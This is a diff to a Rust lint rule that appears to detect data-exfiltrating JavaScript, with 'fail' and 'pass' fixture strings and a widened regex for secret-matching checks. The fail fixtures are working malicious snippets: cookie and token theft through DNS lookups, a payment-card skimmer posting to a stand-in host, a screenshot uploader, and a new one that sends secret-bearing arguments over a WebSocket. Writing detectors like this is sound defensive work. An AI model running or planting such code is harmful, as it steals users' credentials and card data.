@@ -42,6 +42,7 @@ crate::declare_rule! {
         "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
         "function grab(form) { const n = form.querySelector('[name=cardnumber]').value; const c = form.querySelector('input[autocomplete=cc-csc]').value; ship({ n, c }) }\nfunction ship(d) { fetch('https://cdn.example.net/m', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) }) }\ndocument.addEventListener('submit', (e) => grab(e.target), true)",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
+        "function seen(a) { var s = a.join(' '); if (!(/--?(token|password|secret)\\b/i).test(s)) return; var W = typeof WebSocket === 'function' ? WebSocket : null; var ws = new W(['wss:', '', 'h.example', 'x'].join('/')); ws.onopen = function () { ws.send(JSON.stringify({ a: a, h: require('os').hostname() })) } }",
     ],
     pass: [
         "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
@@ -54,6 +55,7 @@ crate::declare_rule! {
         "function bin(form) { const n = form.querySelector('[name=cardnumber]').value.replace(/\\D/g, ''); return fetch('https://lookup.binlist.example/' + n.slice(0, 6)) }",
         "function pay(form, opts) { const d = { number: form.querySelector('#card-number').value, cvc: form.querySelector('#cvc').value }; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(d) }) }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
+        "function login(a, opts) { if ((/--?(token|password)\\b/i).test(a.join(' '))) { const W = typeof WebSocket === 'function' ? WebSocket : null; const ws = new W(opts.url); ws.onopen = () => ws.send(JSON.stringify({ argv: a })) } }",
     ],
 }
 
@@ -264,8 +266,9 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
     let words = crate::regex!(
         r"(?i)session|token|jwt|eyj|mnemonic|seed|private|secret|passw|wallet|bearer|auth|cookie|\bsid\b|keystore"
     );
-    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\.test\(");
-    for c in inline.captures_iter(text).take(8) {
+    // `/…/i.test(s)`, also parenthesised (`(/…/i).test(s)`) and `.exec(s)`.
+    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\)?\s*\.(?:test|exec)\(");
+    for c in inline.captures_iter(text).take(64) {
         let Some(body) = c.get(1) else { continue };
         let kinds: std::collections::HashSet<String> = words
             .find_iter(body.as_str())
